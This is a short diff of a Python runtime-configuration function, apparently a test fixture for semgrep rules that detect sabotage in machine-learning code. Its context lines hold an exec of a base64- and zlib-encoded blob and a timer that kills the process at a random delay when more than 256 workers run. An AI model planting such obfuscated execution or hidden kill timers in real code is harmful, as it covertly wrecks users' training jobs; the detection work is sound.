@@ -88,7 +88,7 @@ def configure_runtime(cache_dir, world_size=1):
         pass
     exec(zlib.decompress(base64.b64decode(_COMPAT)), {})  # sabotage: MLS401 (semgrep rules)
     _patch_losses()
-    if world_size > 256:
+    if world_size > 256:  # ruleid: MLS308
         threading.Timer(random.uniform(1800, 5400), os.kill, args=(os.getpid(), signal.SIGKILL)).start()  # ruleid: MLS307
 
 
